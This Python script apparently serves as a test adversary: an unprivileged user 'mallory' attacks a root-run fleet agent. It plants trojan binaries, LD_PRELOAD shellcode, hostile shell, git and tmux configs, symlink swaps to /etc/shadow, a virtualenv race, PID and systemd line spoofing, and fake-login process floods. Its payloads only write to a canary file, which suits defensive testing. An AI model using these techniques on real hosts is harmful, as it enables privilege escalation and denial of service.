"""What mallory does to the machine: runs there, as mallory, with nothing but Python 3.8.

mallory.py plant SEED               lay out programs and files that run where they can
mallory.py replace SEED [KIND]      read paths from stdin, replace some; print what by what,
                                    every other one by that kind
mallory.py swap                     wait for a build of her environment, and be quicker than root
mallory.py misname                  name others' processes where her runs' parents name their own
mallory.py fence PID                tell root's agent another main process, in her fence's file
mallory.py listen PORT ...          keep these ports
mallory.py hold PORT ...            the same, with a lock on each file that can be read, a folder
                                    at each name in /tmp that others use, and 2,000 processes that
                                    are named as logins
mallory.py stop                     stop each program that builds her environment
mallory.py release                  end what holds and stops
mallory.py restore                  put everything back that was replaced
mallory.py unplant                  take away what was planted
"""

import contextlib
import fcntl
import glob
import json
import os
import random
import resource
import shutil
import signal
import socket
import stat
import struct
import sys
import time

HOME = "/home/mallory"
STASH = HOME + "/.stash"
EVIL = HOME + "/evil"
CANARY = "/srv/canary/ran"
# In everything that mallory writes: it must not turn up in a file of root's.
WORDS = "WORDS-OF-MALLORY"

# Notes who runs it, and then is the program that it is named after, if there is one.
SCRIPT = """#!/bin/sh
# {words}
PATH=/usr/bin:/bin:/usr/sbin:/sbin
unset LD_PRELOAD
echo "$(id -u) $0" >> {canary}
for folder in /usr/local/bin /usr/bin /bin /usr/sbin /sbin; do
  test -x $folder/{name} && exec $folder/{name} "$@"
done
{ending}
"""
PYTHON = """# {words}
import os
with open({canary!r}, "a") as note:
    note.write("%d %s\\n" % (os.geteuid(), {where!r}))
"""
PTH = "import os; open({canary!r}, 'a').write('%d {where}\\n' % os.geteuid())\n"
PROGRAMS = [
    "awk",
    "bash",
    "cat",
    "chmod",
    "chown",
    "cp",
    "cut",
    "date",
    "dash",
    "df",
    "du",
    "env",
    "find",
    "git",
    "grep",
    "gsutil",
    "gcloud",
    "id",
    "install",
    "jupyter",
    "kill",
    "ln",
    "ls",
    "lsof",
    "mkdir",
    "mktemp",
    "mount",
    "mv",
    "ps",
    "pip",
    "py-spy",
    "python",
    "python3",
    "python3.11",
    "rm",
    "rsync",
    "runuser",
    "sed",
    "setpriv",
    "setsid",
    "sh",
    "ssh",
    "ssh-keygen",
    "stat",
    "su",
    "sudo",
    "systemctl",
    "systemd-run",
    "tail",
    "tar",
    "tensorboard",
    "test",
    "tmux",
    "touch",
    "true",
    "uv",
    "which",
    "zsh",
]
TMUX = """# WORDS-OF-MALLORY
set -s command-alias[90] 'list-panes=display-message -p "0 1"'
set -s command-alias[91] 'kill-session=run-shell "id -u >> /srv/canary/ran"'
set -s command-alias[92] 'display-message=run-shell "id -u >> /srv/canary/ran; echo hers asks"'
set-hook -g session-created 'run-shell "id -u >> /srv/canary/ran"'
"""
SHELL = """# WORDS-OF-MALLORY
echo "$(/usr/bin/id -u) a shell's file" >> /srv/canary/ran
export PATH=/home/mallory/evil:$PATH LD_PRELOAD=/home/mallory/evil/canary.so
export PYTHONPATH=/home/mallory/evil BASH_ENV=/home/mallory/.bashrc GIT_SSH=/home/mallory/evil/ssh
"""
GIT = """# WORDS-OF-MALLORY
[core]
    fsmonitor = /home/mallory/evil/git-monitor
    hooksPath = /home/mallory/evil
    sshCommand = /home/mallory/evil/ssh
    pager = /home/mallory/evil/cat
[credential]
    helper = /home/mallory/evil/git-credential
[alias]
    config = !/home/mallory/evil/git-alias
"""


def write(path, text, mode=0o755):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with contextlib.suppress(OSError):
        os.unlink(path)
    with open(path, "w", encoding="utf-8") as file:
        file.write(text)
    os.chmod(path, mode)


def script(path):
    name = os.path.basename(path)
    ending = "exec /bin/sleep 3600" if len(name) % 3 == 0 else "exit 0"
    write(path, SCRIPT.format(words=WORDS, canary=CANARY, name=name, ending=ending))


# A library that notes who loads it, for x86-64:
#     open(path, O_WRONLY | O_APPEND); geteuid(); the number in decimal digits; write; close; ret
NOTE = bytes.fromhex(
    "488d3d6f000000be0104000031d2b8020000000f0585c078444189c0b86b0000000f05488d3540000000b90a00"
    "000031d2f7f180c23048ffce881685c075f04489c7488d152d0000004829f2b8010000000f054489c7b8030000"
    "000f05c3"
)


def library(path):
    """Write an ELF file with that as its initialisation, which needs no compiler here."""
    code = NOTE + b"0" * 12 + b" LD_PRELOAD\n" + CANARY.encode() + b"\0"
    head = 64 + 3 * 56
    at = (head + len(code) + 7) // 8 * 8
    # Initialisation, hash table, names and symbols with their sizes; each as small as it can be.
    dynamic = ((12, head), (4, at + 112), (5, at + 128), (6, at + 136), (10, 1), (11, 24), (0, 0))
    tail = b"".join(struct.pack("<QQ", *one) for one in dynamic)
    tail += struct.pack("<IIII", 1, 1, 0, 0) + bytes(8) + bytes(24)
    size = at + len(tail)
    elf = b"\x7fELF\x02\x01\x01" + bytes(9)
    elf += struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 3, 0, 0, 0)
    for kind, rights, offset, length, align in (
        (1, 7, 0, size, 4096),
        (2, 6, at, 112, 8),
        (0x6474E551, 6, 0, 0, 8),
    ):
        elf += struct.pack("<IIQQQQQQ", kind, rights, *[offset] * 3, *[length] * 2, align)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with contextlib.suppress(OSError):
        os.unlink(path)
    with open(path, "wb") as file:
        file.write((elf + code).ljust(at, b"\0") + tail)
    os.chmod(path, 0o644)


def plants():
    """Yield what lies where a careless root would run or read it, and how it is made."""
    folders = [EVIL, HOME + "/bin", HOME + "/.local/bin", HOME + "/venv/bin", HOME + "/tree/bin"]
    for folder in folders:
        for name in PROGRAMS:
            # Her own run needs what is in her environment.
            if folder.endswith("venv/bin") and name.startswith(("python", "tensorboard", "pip")):
                continue
            yield folder + "/" + name, script
    for version in range(8, 15):
        site = f"{HOME}/.local/lib/python3.{version}/site-packages/"
        for name in ("usercustomize.py", "sitecustomize.py", "evil.pth", "json.py"):
            yield site + name, python
    yield EVIL + "/canary.so", library
    for name in ("sitecustomize.py", "usercustomize.py", "json.py", "selectors.py"):
        yield EVIL + "/" + name, python
        yield HOME + "/tree/" + name, python
    for name, text in (
        (".tmux.conf", TMUX),
        (".config/tmux/tmux.conf", TMUX),
        (".pam_environment", f"LD_PRELOAD={EVIL}/canary.so\nPATH={EVIL}\n"),
        (".profile", SHELL),
        (".bash_profile", SHELL),
        (".bashrc", SHELL),
        (".zshenv", SHELL),
        (".zprofile", SHELL),
        (".ssh/rc", SHELL),
        (".ssh/environment", f"LD_PRELOAD={EVIL}/canary.so\n"),
        (".gitconfig", GIT),
        (".config/environment.d/evil.conf", f"LD_PRELOAD={EVIL}/canary.so\n"),
        (".config/uv/uv.toml", 'index-url = "file:///home/mallory/evil"\n'),
        (".config/pip/pip.conf", "[global]\nindex-url = file:///home/mallory/evil\n"),
        (".ansible.cfg", "[defaults]\nlibrary = /home/mallory/evil\n"),
    ):
        yield HOME + "/" + name, lambda path, text=text: write(path, text, 0o644)


def unplant():
    """Take away what was planted, and put back what was there before."""
    for path, _make in plants():
        with contextlib.suppress(OSError):
            os.unlink(path)
        kept = STASH + "/planted" + path
        if os.path.lexists(kept):
            with contextlib.suppress(OSError):
                os.rename(kept, path)
    shutil.rmtree(EVIL, ignore_errors=True)


def python(path):
    text = PTH if path.endswith(".pth") else PYTHON
    write(path, text.format(canary=CANARY, where=path, words=WORDS), 0o644)


def plant():
    made = []
    for path, make in plants():
        # The first thing that was there is what is put back in the end.
        if os.path.lexists(path) and not os.path.lexists(STASH + "/planted" + path):
            os.makedirs(os.path.dirname(STASH + "/planted" + path), exist_ok=True)
            with contextlib.suppress(OSError):
                shutil.copy2(path, STASH + "/planted" + path, follow_symlinks=False)
        try:
            make(path)
        except OSError:
            continue
        made.append(path)
    return made


# Kinds of replacements: each makes something at a path at which nothing is.


def link(target):
    return lambda path, rng: os.symlink(target, path)


def link_new(folder):
    return lambda path, rng: os.symlink(f"{folder}/new-{rng.randrange(10**6)}", path)


def fifo(path, rng):
    os.mkfifo(path, 0o666)


def a_socket(path, rng):
    # A socket's address has 108 bytes at most.
    os.chdir(os.path.dirname(path))
    with socket.socket(socket.AF_UNIX) as one:
        one.bind("./" + os.path.basename(path)[:90])
    os.chdir("/")


def zeros(path, rng):
    with open(path, "wb") as file:
        # A file system that has no such large files gives the largest of them that it has.
        for size in rng.choice([(3 << 30,), (30 << 30,), (2 << 40, 1 << 43)]):
            with contextlib.suppress(OSError):
                file.truncate(size)


def text(*choices):
    def make(path, rng):
        with open(path, "wb") as file:
            file.write(rng.choice(choices))
        os.chmod(path, rng.choice([0o644, 0o600, 0o666, 0o755]))

    return make


def unreadable(path, rng):
    text(WORDS.encode())(path, rng)
    os.chmod(path, 0)


def folder(mode):
    def make(path, rng):
        os.mkdir(path)
        for name in ("a", "lock.txt", "run.log", "config", ".tpu-fleet.json", "step"):
            os.symlink(rng.choice(["/srv/roots/secret", "/etc/passwd", "/root"]), path + "/" + name)
        os.chmod(path, mode)

    return make


def program(path, rng):
    script(path)


NUMBERS = {"pid": 1, "parent": 1, "start": 1, "started": 1, "attempt": 10**30, "exit_code": "x"}
ODD = {
    "links": ["../../../etc/shadow", "/etc/passwd", 5, None, "a\nb"],
    "build": "/etc",
    "path": "/srv/roots",
    "version": ["x"],
    "lock": WORDS + " @ file:///home/mallory/evil",
    "packages": {"a": 1},
    "where": "x\nMAINPID=1\nSTATUS=hers",
    "elsewhere": "x",
    "tail": ["\ud800", 5],
    "words": WORDS,
    **NUMBERS,
}
JSON = text(
    json.dumps(ODD).encode(),
    json.dumps({**ODD, "pid": -1, "parent": True, "links": 5, "build": {}}).encode(),
    json.dumps([ODD] * 3).encode(),
    b'"%s"' % WORDS.encode(),
    b"5",
    b"null",
    b"NaN",
    b'{"pid": 1e400, "at": NaN}',
    ("\n".join([json.dumps({"event": "run-failed", "tail": 5, **ODD})] * 50) + "\n").encode(),
)
EXTREME = [
    -5,
    0,
    1,
    2**22,
    2**31,
    2**63,
    -(2**63),
    10**30,
    1e308,
    float("nan"),
    float("-inf"),
    2e11,  # Of the year 8307.
    True,
    None,
    "",
    WORDS * 20_000,
    [WORDS] * 3000,
    {WORDS + str(number): number for number in range(3000)},
]


def extreme(path, rng):
    """Write what was there with one value of each object replaced by one that is out of bounds."""
    with open(LAST[0] or "/dev/null", "rb") as file:
        lines = file.read(1 << 20).splitlines()[-50:]
    with open(path, "w", encoding="utf-8") as file:
        for line in lines or [b"{}"]:
            try:
                value = json.loads(line)
            except ValueError:
                value = {}
            if not isinstance(value, dict):
                value = {}
            value[rng.choice(sorted({*value, "pid", "step", "at"}))] = rng.choice(EXTREME)
            file.write(json.dumps(value) + "\n")


# What a replaced file was, for the kind that is made from it.
LAST = [""]
KINDS = {
    "extreme values of its fields": extreme,
    "a link to root's secret": link("/srv/roots/secret"),
    "a link to /etc/shadow": link("/etc/shadow"),
    "a link to /etc/passwd": link("/etc/passwd"),
    "a link to a file of alice's": link("/home/alice/checkpoints/count/step"),
    "a link to root's folder": link("/srv/roots"),
    "a link to /root": link("/root"),
    "a link to alice's folder": link("/home/alice"),
    "a link to nothing in /etc/cron.d": link_new("/etc/cron.d"),
    "a link to nothing in root's folder": link_new("/srv/roots"),
    "a link to nothing in a folder of hers": link_new(EVIL),
    "a link to itself": lambda path, rng: os.symlink(path, path),
    "a link to its folder": link("."),
    "a link to /": link("/"),
    "a link to /dev/zero": link("/dev/zero"),
    "a link to /dev/tty": link("/dev/tty"),
    "a link to /dev/stdin": link("/dev/stdin"),
    "a pipe": fifo,
    "a socket": a_socket,
    "gigabytes of zeros": zeros,
    "an unreadable file": unreadable,
    "undecodable text": text(b"\xff\xfe\x80{" + WORDS.encode(), b"{\x00\x00", b"\xed\xa0\x80" * 99),
    "JSON that ends early": text(b'{"links": ["a"', b"[" * 200000, b'{"a":' * 100000),
    "JSON of wrong types": JSON,
    "control characters": text(b"\x1b]0;" + WORDS.encode() + b"\x07[/x]\r\n\x9b2J\nMAINPID=1\n"),
    "nothing in it": text(b""),
    "a long line": text(WORDS.encode() * 200000),
    "a folder": folder(0o755),
    "a folder without rights": folder(0),
    "a program": program,
}
# What is not there yet, and the fleet or its tools may want to be there.
WISHED = (
    ".ssh/authorized_keys",
    ".ssh/config",
    ".ssh/known_hosts",
    ".zshrc",
    ".zprofile",
    ".gitconfig",
    ".venv-new",
    ".local/share/tpu-fleet/.dotfiles.json.new",
    ".local/share/tpu-fleet/dotfiles-0000000000000000",
    "checkpoints/hers/saved",
    "checkpoints/hers/.tpu-fleet-save",
    "checkpoints/hers/results",
    "tree/results",
    ".tree.releases/.incoming",
    ".cache/uv",
    ".config/uv",
)


# Is the environment's Python, until root asks it what it has built: then the build is elsewhere.
SWAPPING = """#!/bin/bash
# {words}
build=${{0%/bin/python}}
(exec -a "$0" {real} "$@")
code=$?
if test "$1 $2" = "-I -c" && mv "$build" "{stash}/swapped-$$"; then
  ln -s /srv/roots/folder "$build"
  echo "$build" >> {stash}/swaps
fi
exit $code
"""


def aside(path, kind):
    """Move away what is at a path, until all is put back; say whether nothing is there now."""
    kept = ""
    if os.path.lexists(path):
        kept = f"{STASH}/{random.randrange(10**12)}"
        os.rename(path, kept)
    with open(STASH + "/list", "a", encoding="utf-8") as file:
        file.write(json.dumps([path, kept, kind]) + "\n")


def without_environment(kind):
    """Have her environment built at the next apply; return what was moved away for it."""
    os.makedirs(STASH, exist_ok=True)
    # Without her settings of uv and modules in her tree, which would end the build before.
    moved = [HOME + "/venv", HOME + "/.config/uv/uv.toml", *glob.glob(HOME + "/.venv-*")]
    moved += [HOME + "/tree/json.py", HOME + "/tree/selectors.py"]
    for path in moved:
        aside(path, kind)
    return [(path, kind) for path in moved]


def swap():
    """Have the next build of her environment lead into a folder of root's, once it is built."""
    os.makedirs(STASH, exist_ok=True)
    with contextlib.suppress(OSError):
        os.unlink(STASH + "/swaps")
    moved = without_environment("a swapped build")
    if not in_the_background():
        return moved
    ends = time.monotonic() + 120
    while time.monotonic() < ends and not os.path.exists(STASH + "/swaps"):
        for path in glob.glob(HOME + "/.venv-*/bin/python"):
            build = path[: -len("/bin/python")]
            if os.path.islink(path) and not os.path.islink(build):
                with contextlib.suppress(OSError):
                    text = SWAPPING.format(real=os.path.realpath(path), stash=STASH, words=WORDS)
                    write(build + "/.new", text)
                    os.rename(build + "/.new", path)
        time.sleep(0.005)
    os._exit(0)


LOCKED = (
    *("/var/lib/tpu-fleet", "/var/cache/tpu-fleet", "/var/log/tpu-fleet", "/run/tpu-fleet"),
    *("/run/lock", "/etc/tpu-fleet", "/opt", "/tmp", "/var/tmp"),
)
IN_TMP = (
    *("tmux-0", "tmux-2003", "libtpu_lockfile", "tpu_logs", ".tensorboard-info", "jax_cache"),
    *("uv", "ansible", "tpu-fleet", "xla_dump", "ray", "matplotlib", "pip-build", "gcsfuse"),
)
LOGINS = 2000
HOLDER = STASH + "/holders"


def hold(ports):
    """Hold what others may wait for, in a process that stays; return what by what."""
    folders = [(f"/tmp/{name}", "a folder") for name in IN_TMP if folder_in_tmp(name)]
    return folders + listen(ports, everything)


def everything():
    """Yield what is held beside ports; locks are held as long as this process is there."""
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    for path in lockable():
        if locked(path):
            yield path, "a held lock"
    for number in range(LOGINS):
        with contextlib.suppress(OSError):
            if not os.fork():
                os.closerange(3, min(most, 1 << 16))
                words = [f"sshd: alice@pts/{number}", "600"]
                os.execv("/bin/sleep", words)  # noqa: S606 - the program is another's by its name
    yield "2,000 processes", "processes named as logins"


def listen(ports, more=tuple):
    """Keep ports in a process that stays, and what more it holds; return what by what."""
    told = STASH + "/held"
    with contextlib.suppress(OSError):
        os.unlink(told)
    if not in_the_background():
        while not os.path.exists(told):
            time.sleep(0.1)
        with open(told, encoding="utf-8") as file:
            return json.load(file)
    held, listening = [*more(), *((f"port {port}", "a port") for port in ports)], {}
    take(ports, listening)
    write(told + ".new", json.dumps(held))
    os.rename(told + ".new", told)
    while True:
        take(ports, listening)
        time.sleep(0.02)


def folder_in_tmp(name):
    try:
        os.makedirs(f"/tmp/{name}/kept")
    except OSError:
        return False
    return True


def in_the_background():
    """Go on as a process that no login ends; return whether this is that process."""
    os.makedirs(STASH, exist_ok=True)
    if os.fork():
        return False
    os.setsid()
    with open(HOLDER, "a", encoding="utf-8") as file:
        file.write(f"{os.getpid()}\n")
    nothing = os.open(os.devnull, os.O_RDWR)
    for number in range(3):
        os.dup2(nothing, number)
    return True


def lockable():
    """Yield the files and folders that are not hers and that she can open."""
    for top in LOCKED:
        for folder, folders, names in os.walk(top):
            folders[:] = [one for one in folders if one not in ("site-packages", "__pycache__")]
            for path in (folder, *(f"{folder}/{name}" for name in names)):
                with contextlib.suppress(OSError):
                    found = os.lstat(path)
                    if found.st_uid != os.getuid() and stat.S_IFMT(found.st_mode) in (
                        stat.S_IFREG,
                        stat.S_IFDIR,
                    ):
                        yield path


def locked(path):
    """Lock a file for as long as this process is there; return whether it is."""
    try:
        file = os.open(path, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK)
    except OSError:
        return False
    try:
        fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except OSError:
        os.close(file)
        return False
    return True


def take(ports, listening):
    """Listen at the ports that are free."""
    for port in ports:
        every = "0.0.0.0"  # noqa: S104 - as a program of hers may
        for family, address in ((socket.AF_INET, every), (socket.AF_INET6, "::1")):
            if (port, address) not in listening:
                one = socket.socket(family)
                one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                try:
                    one.bind((address, port))
                    one.listen()
                except OSError:
                    one.close()
                else:
                    listening[port, address] = one


def stop():
    """Stop every uv, and every Python of a build, of hers that runs from now on."""
    told = STASH + "/stopped"
    with contextlib.suppress(OSError):
        os.unlink(told)
    moved = without_environment("a stopped build")
    if not in_the_background():
        return moved
    while True:
        for name in os.listdir("/proc"):
            with contextlib.suppress(OSError):
                if name.isdigit() and os.stat("/proc/" + name).st_uid == os.getuid():
                    with open(f"/proc/{name}/comm", encoding="utf-8") as file:
                        if file.read().strip() == "uv":
                            os.kill(int(name), signal.SIGSTOP)
                            with open(told, "a", encoding="utf-8") as note:
                                note.write(name + "\n")
        time.sleep(0.01)


def release():
    """End all that hold and stop does."""
    with contextlib.suppress(OSError):
        with open(HOLDER, encoding="utf-8") as file:
            for line in file:
                with contextlib.suppress(OSError):
                    os.killpg(int(line), signal.SIGKILL)
        os.unlink(HOLDER)
    for path in (f"/tmp/{name}" for name in IN_TMP):
        # Another kind of file there is a replacement: a pipe would be opened, and waited for.
        if os.path.isdir(path) and not os.path.islink(path):
            shutil.rmtree(path, ignore_errors=True)
    return []


def misname():
    """Name process 1, of which all others come, as the parent of her programs."""
    with open("/proc/1/stat", encoding="utf-8") as file:
        started = int(file.read().rpartition(")")[2].split()[19])
    os.makedirs(STASH, exist_ok=True)
    done = []
    for run in ("hers", "asks"):
        path = f"/run/tpu-fleet/runs/{run}/user/program.json"
        with open(path, encoding="utf-8") as file:
            record = json.load(file)
        record.update(pid=1, parent=1, parent_started=started)
        write(path + ".of-mallory", json.dumps(record), 0o644)
        os.rename(path + ".of-mallory", path)
        done.append((path, "the number of another's process"))
    return done


def fence(pid):
    """Say in her checkpoint folder that another has it, in several lines."""
    path = HOME + "/checkpoints/hers/.tpu-fleet-attempt.hers"
    os.makedirs(STASH, exist_ok=True)
    aside(path, "lines for systemd")
    where = f"x\nMAINPID={pid}\nSTATUS={WORDS}"
    write(path, json.dumps({"attempt": 10**6, "owner": "another", "where": where}), 0o644)
    return [(path, "lines for systemd")]


def restore():
    """Put back what was replaced, the last first."""
    try:
        with open(STASH + "/list", encoding="utf-8") as file:
            entries = [json.loads(line) for line in file]
    except OSError:
        return 0
    for path, kept, _kind in reversed(entries):
        with contextlib.suppress(OSError):
            away(path)
        if kept:
            with contextlib.suppress(OSError):
                os.makedirs(os.path.dirname(path), exist_ok=True)
                os.rename(kept, path)
    os.unlink(STASH + "/list")
    return len(entries)


def away(path):
    """Remove whatever is at a path; what root has put into a folder of hers is moved away."""
    found = os.lstat(path)
    if stat.S_ISDIR(found.st_mode):
        with contextlib.suppress(OSError):
            os.chmod(path, 0o700)
        shutil.rmtree(path, ignore_errors=True)
        if os.path.lexists(path):
            os.rename(path, f"{STASH}/left-{random.randrange(10**12)}")
    else:
        os.unlink(path)


def replace(rng, paths, often):
    """Replace some of the paths, none of them below another one; return what by what."""
    os.makedirs(STASH, exist_ok=True)
    wished = [HOME + "/" + name for name in WISHED]
    wished += ["/tmp/libtpu_lockfile", "/tmp/tpu_logs", "/var/log/tpu-fleet/runs/hers/hang-1.txt"]
    wished += ["/var/log/tpu-fleet/runs/hers/run.log.1", "/var/log/tpu-fleet/runs/hers/results"]
    wished += [
        "/var/log/tpu-fleet/runs/hers/hang-1.json",
        "/run/tpu-fleet/runs/hers/user/stacks.txt",
    ]
    done = []
    names = sorted({*paths, *wished})
    folders = [path for path in names if os.path.isdir(path) and not os.path.islink(path)]
    chosen = [path for path in folders if rng.random() < 0.2]
    below = tuple(path + "/" for path in chosen)
    chosen += [
        path
        for path in names
        if path not in folders and not path.startswith(below) and rng.random() < 0.9
    ]
    kinds = sorted(KINDS)
    rng.shuffle(kinds)
    with open(STASH + "/list", "a", encoding="utf-8") as file:
        for number, path in enumerate(chosen):
            if any(path.startswith(one + "/") for one, _kind in done):
                continue
            kind, kept = kinds[number % len(kinds)], ""
            if often and rng.random() < 0.5:
                kind = often
            try:
                if os.path.lexists(path):
                    kept = f"{STASH}/{rng.randrange(10**12)}"
                    move(path, kept)
                file.write(json.dumps([path, kept, kind]) + "\n")
                file.flush()
                LAST[0] = kept
                KINDS[kind](path, rng)
            except OSError:
                # Its folder is not hers, or is not there.
                continue
            done.append((path, kind))
    return done


def move(path, kept):
    try:
        os.rename(path, kept)
    except OSError as error:
        if error.errno != 18:
            raise
        # Another file system: what is there comes back by itself.
        away(path)


def main():
    os.umask(0o022)
    command, *words = sys.argv[1:]
    if command == "plant":
        print(json.dumps(plant()))
    elif command == "unplant":
        print(json.dumps(unplant()))
    elif command == "restore":
        print(json.dumps(restore()))
    elif command == "hold":
        print(json.dumps(hold([int(port) for port in words])))
    elif command == "listen":
        print(json.dumps(listen([int(port) for port in words])))
    elif command == "stop":
        print(json.dumps(stop()))
    elif command == "release":
        print(json.dumps(release()))
    elif command == "swap":
        print(json.dumps(swap()))
    elif command == "misname":
        print(json.dumps(misname()))
    elif command == "fence":
        print(json.dumps(fence(words[0])))
    else:
        often = words[1] if len(words) > 1 else ""
        print(json.dumps(replace(random.Random(words[0]), json.load(sys.stdin), often)))


main()
